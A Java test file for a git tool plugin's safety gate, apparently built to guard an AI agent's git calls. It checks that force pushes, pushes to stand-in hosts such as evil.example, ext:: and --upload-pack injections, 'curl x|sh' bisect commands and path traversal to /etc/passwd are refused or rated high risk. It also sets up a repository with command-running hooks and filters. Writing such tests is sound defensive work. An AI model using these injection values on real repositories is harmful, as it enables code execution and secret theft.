package dev.fuse.tool.git;

import static org.assertj.core.api.Assertions.assertThat;

import dev.fuse.spi.Arguments;
import dev.fuse.spi.Effect;
import dev.fuse.spi.Risk;
import dev.fuse.spi.ToolFailure;
import dev.fuse.spi.Verb;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Dangerous and disguised calls, with what the gate gets to see of them. */
class RedTeamTest {

  private static final String REFUSED = "refused";

  @TempDir static Path root;
  private static World world;
  private static World trapped;

  /** A call, and the risk or verb that it must have, or that it is refused. */
  record Attack(String expected, String tool, List<Object> arguments) {
    @Override
    public String toString() {
      return tool + " " + arguments + " -> " + expected;
    }
  }

  private static Attack attack(String expected, String tool, Object... arguments) {
    return new Attack(expected, tool, List.of(arguments));
  }

  /** A pushed branch with work in progress; and a repository that came from somewhere. */
  @BeforeAll
  static void open() throws Exception {
    world = World.withCommit(root.resolve("one"));
    world.write("conf/.env", "TOKEN=hunter2\n");
    world.write("a.txt", "second\n");
    world.commit("Second");
    world.git("clone", "-q", "--bare", ".", "../remote.git");
    world.git("remote", "add", "origin", "../remote.git");
    world.git("fetch", "-q", "origin");
    world.git("branch", "-q", "--set-upstream-to=origin/main");
    world.git("branch", "onto", "HEAD~1");
    world.git("switch", "-q", "-c", "lonely");
    world.git("commit", "-q", "--allow-empty", "-m", "Only here");
    world.git("switch", "-q", "main");
    world.git("tag", "v1");
    world.write("a.txt", "stashed\n");
    world.git("stash", "push", "-q");
    world.write("a.txt", "work in progress\n");

    trapped = World.withCommit(root.resolve("two"));
    trapped.script(trapped.repository.resolve(".husky/pre-commit"), "touch sprung");
    trapped.script(trapped.repository.resolve(".husky/post-checkout"), "touch sprung");
    trapped.git("config", "core.hooksPath", ".husky");
    trapped.git("config", "filter.x.smudge", "touch sprung");
    trapped.git("config", "merge.x.driver", "touch sprung");
    trapped.git("config", "core.fsmonitor", "touch sprung");
    trapped.git("config", "diff.external", "touch sprung");
    trapped.git("config", "includeIf.onbranch:main.path", "evil");
    trapped.write("a.txt", "x\n");
    trapped.git("add", "a.txt");
  }

  static List<Attack> attacks() {
    var attacks = new ArrayList<Attack>();
    attacks.addAll(pushes());
    attacks.addAll(losses());
    attacks.addAll(injections());
    attacks.addAll(reads());
    return attacks;
  }

  private static List<Attack> pushes() {
    return List.of(
        attack("CRITICAL", "git_push", "branch", "onto", "to", "main", "force", true),
        attack("CRITICAL", "git_push", "branch", "main", "delete", true),
        attack("CRITICAL", "git_push", "tag", "v1", "force", true),
        attack("CRITICAL", "git_push", "tag", "v1", "delete", true),
        attack("HIGH", "git_push"),
        attack("HIGH", "git_push", "branch", "lonely"),
        attack(REFUSED, "git_push", "branch", "onto", "to", "main"),
        attack(REFUSED, "git_push", "branch", "+onto", "to", "main"),
        attack(REFUSED, "git_push", "branch", "onto", "to", "+main"),
        attack(REFUSED, "git_push", "branch", "--force"),
        attack(REFUSED, "git_push", "branch", "--mirror"),
        attack(REFUSED, "git_push", "branch", ":main"),
        attack(REFUSED, "git_push", "branch", "onto:main"),
        attack(REFUSED, "git_push", "branch", "onto", "to", "refs/heads/main"),
        attack(REFUSED, "git_push", "branch", "onto", "to", "*"),
        attack(REFUSED, "git_push", "remote", "ext::sh -c 'touch x'"),
        attack(REFUSED, "git_push", "remote", "https://evil.example/steal.git"),
        attack(REFUSED, "git_push", "remote", "--receive-pack=touch x"),
        attack(REFUSED, "git_push", "remote", "../remote.git"),
        attack(REFUSED, "git_fetch", "remote", "file:///etc"),
        attack(REFUSED, "git_fetch", "remote", "fd::7"),
        attack(REFUSED, "git_fetch", "branch", "--upload-pack=touch x"),
        attack(REFUSED, "git_fetch", "branch", "main:refs/heads/lonely"),
        attack(REFUSED, "git_fetch", "branch", "+main"),
        attack(REFUSED, "git_pull", "branch", "../../x"),
        attack(REFUSED, "git_pull", "remote", "git@evil.example:x.git"));
  }

  private static List<Attack> losses() {
    return List.of(
        attack("HIGH", "git_restore", "paths", List.of(".")),
        attack("HIGH", "git_restore", "paths", List.of("a.txt"), "source", "HEAD~1"),
        attack("HIGH", "git_reset", "to", "HEAD", "mode", "hard"),
        attack("CRITICAL", "git_reset", "to", "HEAD~1", "mode", "hard"),
        attack("CRITICAL", "git_reset", "to", "onto", "mode", "keep"),
        attack("CRITICAL", "git_commit", "message", "x", "amend", true, "paths", List.of("a.txt")),
        attack("CRITICAL", "git_integrate", "action", "rebase", "revisions", List.of("onto")),
        attack("HIGH", "git_stash", "action", "drop"),
        attack("HIGH", "git_branch", "action", "delete", "name", "lonely"),
        attack("HIGH", "git_tag", "action", "delete", "name", "v1"),
        attack("LOW", "git_stash", "action", "push"),
        attack("LOW", "git_commit", "message", "--amend", "paths", List.of("a.txt")),
        attack("HIGH", "git_bisect", "good", "HEAD~1", "argv", List.of("sh", "-c", "curl x|sh")));
  }

  private static List<Attack> injections() {
    return List.of(
        attack(REFUSED, "git_reset", "to", "--hard"),
        attack(REFUSED, "git_reset", "to", "HEAD:a.txt"),
        attack(
            REFUSED, "git_integrate", "action", "rebase", "revisions", List.of("--exec=touch x")),
        attack(REFUSED, "git_integrate", "action", "rebase", "revisions", List.of("-i")),
        attack(REFUSED, "git_integrate", "action", "merge", "revisions", List.of("-sours")),
        attack(REFUSED, "git_integrate", "action", "merge", "revisions", List.of("onto\n--x")),
        attack(REFUSED, "git_integrate", "action", "cherry-pick", "revisions", List.of("--edit")),
        attack(REFUSED, "git_branch", "action", "delete", "name", "--all"),
        attack(REFUSED, "git_branch", "action", "switch", "name", "--force"),
        attack(REFUSED, "git_branch", "action", "switch", "name", "-f"),
        attack(REFUSED, "git_branch", "action", "create", "name", "x --force"),
        attack(REFUSED, "git_branch", "action", "create", "name", "x", "start", "--help"),
        attack(REFUSED, "git_branch", "action", "create", "name", "x", "upstream", "--unset"),
        attack(REFUSED, "git_branch", "action", "rename", "name", "main", "to", "../../hooks/x"),
        attack(REFUSED, "git_tag", "action", "create", "name", "-d"),
        attack(REFUSED, "git_tag", "action", "create", "name", "x", "revision", "--output=x"),
        attack(REFUSED, "git_stash", "action", "drop", "stash", "--all"),
        attack(REFUSED, "git_stash", "action", "pop", "stash", "stash@{0} --index"),
        attack(REFUSED, "git_commit", "message", "x", "paths", List.of("/etc/passwd")),
        attack(REFUSED, "git_commit", "message", "x", "paths", List.of("--all")),
        attack(REFUSED, "git_restore", "paths", List.of("../../x")),
        attack(REFUSED, "git_restore", "paths", List.of("a.txt"), "source", "--staged"),
        attack(REFUSED, "git_bisect", "good", "--bad", "argv", List.of("true")),
        attack(REFUSED, "git_continue", "action", "abort"));
  }

  private static List<Attack> reads() {
    return List.of(
        attack("READ", "git_log"),
        attack("READ", "git_show", "revision", "HEAD"),
        attack("READ_SECRET", "git_show", "path", "conf/.env"),
        attack("READ_SECRET", "git_show", "revision", "HEAD:conf/.env"),
        attack("READ_SECRET", "git_show", "revision", ":0:conf/.env"),
        attack("READ_SECRET", "git_diff", "range", "HEAD~1", "paths", List.of("conf/.env")),
        attack("READ_SECRET", "git_blame", "path", "conf/.env"),
        attack("READ_SECRET", "git_status", "repository", "../../two/repo"),
        attack(REFUSED, "git_blame", "path", "/etc/shadow"),
        attack(REFUSED, "git_diff", "paths", List.of("../../../etc/passwd")),
        attack(REFUSED, "git_log", "path", "..\u0000/x"));
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void the_gate_sees_what_a_call_does(Attack attack) {
    assertThat(seen(world, attack.tool(), attack.arguments().toArray()))
        .isEqualTo(attack.expected());
  }

  @ParameterizedTest
  @MethodSource("revisionsThatAreOptions")
  void a_revision_is_never_an_option(String tool, Object[] arguments) throws Exception {
    assertThat(world.failed(tool, arguments).problem()).contains("is no revision");
  }

  static List<Object[]> revisionsThatAreOptions() {
    return List.of(
        new Object[] {"git_log", new Object[] {"range", "--output=/tmp/x"}},
        new Object[] {"git_log", new Object[] {"range", "HEAD..--all"}},
        new Object[] {"git_show", new Object[] {"revision", "--ext-diff"}},
        new Object[] {"git_diff", new Object[] {"range", "--no-index"}},
        new Object[] {"git_blame", new Object[] {"path", "a.txt", "revision", "--contents=x"}});
  }

  @Test
  void a_blob_named_by_its_id_alone_asks() throws Exception {
    var blob = world.git("rev-parse", "HEAD:conf/.env");

    assertThat(seen(world, "git_show", "revision", blob)).isEqualTo("READ_SECRET");
  }

  @Test
  void what_a_repository_brings_along_is_shown_as_code_where_it_would_run() {
    assertThat(programs("git_commit", "message", "x"))
        .anyMatch(program -> program.endsWith("/.husky/pre-commit"))
        .contains("includeIf.onbranch:main.path=evil");
    assertThat(programs("git_branch", "action", "switch", "name", "main"))
        .anyMatch(program -> program.endsWith("/.husky/post-checkout"))
        .contains("filter.x.smudge=touch sprung");
    assertThat(programs("git_integrate", "action", "merge", "revisions", List.of("main")))
        .contains("merge.x.driver=touch sprung");
    assertThat(programs("git_status")).isEmpty();
    assertThat(programs("git_diff")).isEmpty();
  }

  @Test
  void a_work_tree_that_is_somewhere_else_is_outside() throws Exception {
    var moved = World.withCommit(root.resolve("three"));
    moved.git("config", "core.worktree", "/");

    assertThat(seen(moved, "git_status")).isEqualTo("READ_SECRET");
    assertThat(seen(moved, "git_stage", "action", "add", "paths", List.of("etc/passwd")))
        .isEqualTo("HIGH");
  }

  @Test
  void there_is_no_tool_for_what_cannot_be_taken_back_or_runs_anything() {
    assertThat(world.plugin().tools())
        .extracting(tool -> tool.spec().name())
        .doesNotContain("git_clean", "git_config", "git_clone", "git_submodule", "git_gc", "git");
  }

  /** The verb of a read, the highest risk of a change, or that it is refused. */
  private static String seen(World in, String tool, Object... arguments) {
    try {
      var spec = in.tool(tool).spec();
      var effects = in.tool(tool).prepare(Arguments.of(arguments), in.call).effects();
      assertThat(spec.ceiling().exceededBy(effects)).isEmpty();
      if (spec.reading()) {
        return effects.getFirst().verb().name();
      }
      return effects.stream().map(Effect::risk).reduce(Risk.NONE, Risk::or).name();
    } catch (ToolFailure failure) {
      assertThat(failure.result().problem()).isNotBlank().doesNotContain("Exception");
      return REFUSED;
    }
  }

  private static List<String> programs(String tool, Object... arguments) {
    return trapped.tool(tool).prepare(Arguments.of(arguments), trapped.call).effects().stream()
        .filter(effect -> effect.verb() == Verb.EXECUTE)
        .flatMap(effect -> effect.target().find("program").stream())
        .toList();
  }
}
